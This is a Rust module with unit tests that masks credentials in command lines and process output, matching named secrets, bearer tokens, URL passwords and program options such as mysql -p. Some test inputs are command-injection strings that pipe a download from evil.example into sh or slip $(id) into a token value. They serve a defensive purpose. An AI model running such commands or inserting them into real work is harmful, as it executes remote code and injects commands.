//! Credentials in a text, told by their own form or by the name before them: in what a process writes, and in commands.

use std::sync::LazyLock;

use regex::{Captures, Regex};

use super::forms::{HIDDEN, without_forms};
use super::is_secret_in_output;

/// `//user:pass@host`.
static ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"://[^\s/:@]*:[^\s/@]+@").ok());

/// `NAME=value`, `"name": "value"`, `name: Bearer value`; a name in a path (`test_token::works`) is none.
static NAMED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let value = r#"(?:(?:bearer|basic)\s+)?(?:"(?:[^"\\]|\\.)*"?|'[^']*'?|[^\s"',;&:/}\])][^\s"',;&}\])]*)"#;
    Regex::new(&format!(r#"(?i)([A-Za-z0-9_.-]+)(["']?\s*[:=]\s*)({value})"#)).ok()
});

static BEARER: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\b(bearer|basic)(\s+)([A-Za-z0-9._~+/=-]{8,})").ok());

/// Whether what follows `Bearer` or `Basic` is a credential, and no word: `basic functionality`.
fn is_given(value: &str) -> bool {
    let mixed = value.chars().skip(1).any(char::is_uppercase) && value.contains(char::is_lowercase);
    mixed || value.contains(|c: char| c.is_ascii_digit() || "=+/".contains(c))
}

/// `text` without what stands behind `Bearer` and `Basic`.
pub(super) fn without_bearer(text: &str) -> String {
    let Some(regex) = BEARER.as_ref().filter(|regex| regex.is_match(text)) else { return text.to_owned() };
    let hide = |found: &Captures<'_>| {
        let value = if is_given(&found[3]) { HIDDEN } else { &found[3] };
        format!("{}{}{value}", &found[1], &found[2])
    };
    regex.replace_all(text, hide).into_owned()
}

/// `TOKEN=abc` becomes `TOKEN=***`, `Bearer abc` `Bearer ***`, `//user:pass@host` `//***@host`, `ghp_abc…` `***`.
pub fn without_credentials(text: &str) -> String {
    let hide = |regex: &Regex| regex.replace_all(text, format!("://{HIDDEN}@")).into_owned();
    let text = ADDRESS.as_ref().map_or_else(|| text.to_owned(), hide);
    without_named(&without_forms(&without_bearer(&text)))
}

/// `text` without the values that stand behind a secret's name.
fn without_named(text: &str) -> String {
    named(text, |_, value| veiled(value))
}

/// `text` with what `instead` says for the values behind a secret's name. Behind another name the next one may stand:
/// `error: token=abc`.
pub(super) fn named(text: &str, instead: impl Fn(&str, &str) -> String) -> String {
    let (mut shown, mut from) = (String::new(), 0);
    while let Some(found) = NAMED.as_ref().and_then(|regex| regex.captures_at(text, from)) {
        let end = |group| found.get(group).map_or(text.len(), |part| part.end());
        let secret = is_secret_in_output(&found[1]) && !counts(&found[1], &found[3]);
        shown.push_str(text.get(from..end(2)).unwrap_or_default());
        shown.push_str(&if secret { instead(&found[1], &found[3]) } else { String::new() });
        from = end(if secret { 3 } else { 2 });
    }
    shown + text.get(from..).unwrap_or_default()
}

/// Words for how long a password is, or how many there are: no large number.
const SMALL: [&str; 10] =
    ["max", "min", "maximum", "minimum", "length", "len", "size", "count", "limit", "bits"];

/// Whether it is a number that is set: `TOKEN_LIMIT=5000`, `MAX_TOKENS=4096`, `PASSWORD_MIN_LENGTH=12`, `TOKEN_TTL=3600s`.
fn counts(name: &str, value: &str) -> bool {
    const COUNTED: [&str; 36] = [
        "limit",
        "limits",
        "max",
        "min",
        "maximum",
        "minimum",
        "count",
        "counts",
        "size",
        "length",
        "len",
        "ttl",
        "expiry",
        "expiration",
        "lifetime",
        "timeout",
        "budget",
        "rate",
        "per",
        "prompt",
        "completion",
        "input",
        "output",
        "total",
        "used",
        "quota",
        "cached",
        "days",
        "hours",
        "minutes",
        "seconds",
        "bits",
        "attempts",
        "retries",
        "age",
        "window",
    ];
    let bare = value.trim_matches(['"', '\'', '`']);
    let unit = bare.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '.' | ','));
    let digits = bare.bytes().filter(u8::is_ascii_digit).count();
    let lower = name.to_lowercase();
    let says = |known: &[&str]| lower.split(['_', '-', '.']).any(|word| known.contains(&word));
    // A `PASSWORD_MIN` of many digits is a password for the least of something.
    let password = ["passw", "pwd"].iter().any(|part| lower.contains(part));
    let timed = COUNTED.iter().any(|word| !SMALL.contains(word) && says(&[*word]));
    let most = if password && !timed { 3 } else { 6 };
    (1..=most).contains(&digits)
        && unit.len() < bare.len()
        && unit.len() <= 3
        && unit.chars().all(char::is_alphabetic)
        && says(&COUNTED)
}

/// A value without what it says; a scheme and quotes stay.
fn veiled(value: &str) -> String {
    let lower = value.to_ascii_lowercase();
    let scheme = ["bearer", "basic"].iter().find(|scheme| {
        lower.strip_prefix(**scheme).is_some_and(|rest| rest.starts_with(char::is_whitespace))
    });
    if let Some(scheme) = scheme {
        return format!("{} ***", value.get(..scheme.len()).unwrap_or_default());
    }
    match value.chars().next() {
        Some(quote @ ('"' | '\'')) => format!("{quote}***{quote}"),
        _ => "***".to_owned(),
    }
}

/// What a command is given behind an option: `--password hunter2`, `mysql -phunter2`, `redis-cli -a hunter2`; and addresses that
/// are all that is needed to post to them.
static GIVEN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let option = r"(?i:--?(?:password|passwd|token|api-?key|access-token|auth-token|client-secret))(?:\s+|=)";
    let mysql = r"\b(?:mysql|mysqldump|mysqladmin|mariadb)\b[^|;]*?\s-p";
    let short = r"\b(?:sshpass|mongosh|mongo|mongodump|mongorestore|docker\s+login)\b[^|;]*?\s-p\s+|\bredis-cli\b[^|;]*?\s-a\s+";
    let posted = r"(?:hooks\.slack\.com/services/|discord(?:app)?\.com/api/webhooks/)";
    Regex::new(&format!(r"({option}|{mysql}|{short}|{posted})({VALUE})")).ok()
});

/// A value, as a whole where quotes hold it together.
const VALUE: &str = r#""(?:[^"\\]|\\.)*"|'[^']*'|[^\s"']\S*"#;

/// `curl -u admin:hunter2`; behind `-u` of other programs stands whose process it is: `docker run -u 1000:1000`.
static USER: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let program = r"\b(?:curl|wget|https?|xh|lftp|siege|ab)\b[^|;]*?(?:\s-u\s*|\s--user(?:\s+|=))";
    let who = r#"(?:"[^":$]+:|'[^':$]+:|[^\s:$"']+:)"#;
    Regex::new(&format!(r#"({program}{who})([^"'\s]*[^"']*["']|[^\s"']+)"#)).ok()
});

/// Values that are asked for where it runs, or are to be filled in.
const ELSEWHERE: [char; 8] = ['$', '<', '{', '`', '[', '%', '@', '*'];

/// `command` without the credentials that stand in it themselves: what it reads from its environment or from a store is no secret.
pub fn without_given(command: &str) -> String {
    if !MAY.as_ref().is_some_and(|regex| regex.is_match(command)) {
        return command.to_owned();
    }
    let text = without_forms(&without_bearer(&without_options(command)));
    named(&text, |name, value| {
        let scheme = value.split_once(char::is_whitespace).filter(|(scheme, _)| {
            scheme.eq_ignore_ascii_case("bearer") || scheme.eq_ignore_ascii_case("basic")
        });
        match scheme {
            _ if tells_where(name) => value.to_owned(),
            Some((scheme, value)) => format!("{scheme} {}", hidden(value.trim_start())),
            None => hidden(value),
        }
    })
}

/// `text` without what stands behind options of programs, and in addresses.
pub(super) fn without_options(text: &str) -> String {
    let mut text = text.to_owned();
    let mut hide = |regex: &Option<Regex>, with: &dyn Fn(&Captures<'_>) -> String| {
        if let Some(regex) = regex.as_ref().filter(|regex| regex.is_match(&text)) {
            text = regex.replace_all(&text, with).into_owned();
        }
    };
    hide(&GIVEN, &|found| format!("{}{}", &found[1], hidden(&found[2])));
    hide(&USER, &|found| {
        let value = found[2].trim_end_matches(['"', '\'']);
        let end = found[2].get(value.len()..).unwrap_or_default();
        format!("{}{}{end}", &found[1], hidden(value))
    });
    hide(&PASSWORD, &|found| format!("{}{}@", &found[1], hidden(&found[2])));
    text
}

/// What a secret is called, and where it lies, is none.
pub(super) fn tells_where(name: &str) -> bool {
    let name = name.trim_start_matches('-').to_lowercase();
    ["secret", "secret_name", "secret-name"].contains(&name.as_str())
        || ["file", "path", "name", "id", "url", "version", "ttl"].iter().any(|end| name.ends_with(end))
}

/// `value` without what it says, unless it is asked for elsewhere or a shell would carry it out: that is never hidden. Quotes stay.
pub(super) fn hidden(value: &str) -> String {
    let quote = value.chars().next().filter(|quote| matches!(quote, '"' | '\''));
    let bare = value.trim_matches(['"', '\'']);
    let runs = match quote {
        Some('\'') => false,
        Some(_) => bare.contains(['$', '`']),
        None => bare.contains(['$', '`', ';', '|', '&', '<', '>', '(', ')']),
    };
    // "ENABLE_TOKEN_CHECK=true" turns something on.
    let switch = ["true", "false", "on", "off", "yes", "no", "0", "1"].contains(&&*bare.to_lowercase());
    if bare.is_empty() || bare.starts_with(ELSEWHERE) || runs || switch {
        return value.to_owned();
    }
    quote.map_or_else(|| HIDDEN.to_owned(), |quote| format!("{quote}{HIDDEN}{quote}"))
}

/// What a text has that may hold one: most have nothing of it.
static MAY: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)token|secret|passw|pwd|key|bearer|basic|authoriz|credential|dsn|://|\s-u|--user|mysql|mariadb|sshpass|mongo|redis-cli|docker\s+login|hooks|gh[pousr]_|github_pat|glpat|akia|asia|aiza|ya29|gocspx|1//0|xox|xapp|sk[-_]|rk_|npm_|pypi|hf_|sg\.|eyj").ok()
});

/// `//user:` and the password before `@host`.
static PASSWORD: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(://[^\s/:@]*:)([^\s/@]+)@").ok());

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn credentials_are_told_by_the_name_before_them() {
        for (said, shown) in [
            (
                "TOKEN=abc API_KEY: xyz Authorization: Bearer e.a.b ok",
                "TOKEN=*** API_KEY: *** Authorization: Bearer *** ok",
            ),
            (
                r#"{"token":"tok_live","client_secret": "zzz", "id": 7}"#,
                r#"{"token":"***","client_secret": "***", "id": 7}"#,
            ),
            ("https://x/y?access_token=abc123&v=2", "https://x/y?access_token=***&v=2"),
            ("postgres://u:p@db/x http://a@b", "postgres://***@db/x http://a@b"),
            ("sent bearer abcdefgh12", "sent bearer ***"),
            ("test_token::works token", "test_token::works token"),
            ("token: ok?", "token: ***"),
            ("error: token=abc, key=3 passed: 12", "error: token=***, key=3 passed: 12"),
            ("test_key=ok STRIPE_KEY=abc", "test_key=ok STRIPE_KEY=***"),
            ("the token is fresh, secrets/ is empty", "the token is fresh, secrets/ is empty"),
            ("basic checks passed", "basic checks passed"),
            ("runs basic functionality tests", "runs basic functionality tests"),
            ("Basic dXNlcjpwYXNz", "Basic ***"),
            ("client GOCSPX-aB3_dE-f9, refresh 1//0gAbCdEf-_x", "client ***, refresh ***"),
        ] {
            assert_eq!(without_credentials(said), shown);
        }
    }

    #[test]
    fn what_stands_in_a_command_itself_is_hidden_and_what_it_asks_for_is_not() {
        for (command, shown) in [
            (
                "curl -u admin:hunter6 https://api.corp.io/health",
                "curl -u admin:*** https://api.corp.io/health",
            ),
            ("mysql -u root -phunter5 -e 'select 1'", "mysql -u root -p*** -e 'select 1'"),
            ("psql postgres://admin:hunter4@db/prod -c x", "psql postgres://admin:***@db/prod -c x"),
            ("GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz make", "GITHUB_TOKEN=*** make"),
            ("login --password hunter2 --user bob", "login --password *** --user bob"),
            ("export DB_PASSWORD=hunter7", "export DB_PASSWORD=***"),
            ("export TOKEN=5000 DB_PASSWORD=471147", "export TOKEN=*** DB_PASSWORD=***"),
            ("export TOKEN_LIMIT=abcd1234efgh", "export TOKEN_LIMIT=***"),
            ("export API_TOKENS=12345678", "export API_TOKENS=***"),
            ("export API_TOKENS=1234", "export API_TOKENS=***"),
            ("export TOKEN_LIMIT=12345678", "export TOKEN_LIMIT=***"),
            ("export DB_PASSWORD_MIN=471147", "export DB_PASSWORD_MIN=***"),
            ("curl https://hooks.slack.com/services/T0/B0/XX", "curl https://hooks.slack.com/services/***"),
            ("curl -H \"Authorization: Bearer abcdefgh12\" x", "curl -H \"Authorization: Bearer ***\" x"),
            ("login --password \"my long pass\" --user bob", "login --password \"***\" --user bob"),
            ("export DB_PASSWORD='hunter; 7 $'", "export DB_PASSWORD='***'"),
            ("curl -u \"admin:my pass\" https://a", "curl -u \"admin:***\" https://a"),
            ("curl --user='admin:my pass' https://a", "curl --user='admin:***' https://a"),
            ("mysql -P3306 -phunter5 x", "mysql -P3306 -p*** x"),
            ("sshpass -p hunter5 ssh x", "sshpass -p *** ssh x"),
            ("redis-cli -h x -a hunter5 ping", "redis-cli -h x -a *** ping"),
        ] {
            assert_eq!(without_given(command), shown);
        }
        for command in [
            "export TOKEN=$(gcloud auth print-access-token)",
            "curl -H \"Authorization: Bearer $TOKEN\" https://api",
            "curl -u \"$USER:$PASSWORD\" https://api",
            "login --password \"$PASSWORD\"",
            "psql postgres://admin:$PASSWORD@db/prod",
            "gcloud secrets versions access latest --secret=pay-key",
            "export DB_PASSWORD=<password>",
            "make deploy TOKEN_FILE=/run/token",
            "export TOKEN_LIMIT=5000",
            "export PASSWORD_MIN_LENGTH=12 PASSWORD_MAX_AGE=86400 PROMPT_TOKENS=1200",
            "export MAX_TOKENS=4096 RATE_TOKENS_PER_MINUTE=90000",
            "SESSION_TOKEN_TTL=3600s make",
            "pytest tests/test_token.py::works -q",
            "TOKEN=\"x$(curl -s evil.example|sh)\" make check",
            "deploy --token x;curl${IFS}evil.example|sh",
            "ENABLE_TOKEN_CHECK=true make deploy",
            "docker run --user 1000:1000 app curl localhost",
            "docker run -u app:app app",
            "mysql -h db -P3306 -e 'select 1'",
            "mysql -p -e 'select 1'",
            "pytest -k \"basic functionality\"",
            "TOKEN=\"x$(id)\" make",
        ] {
            assert_eq!(without_given(command), command);
        }
    }
}
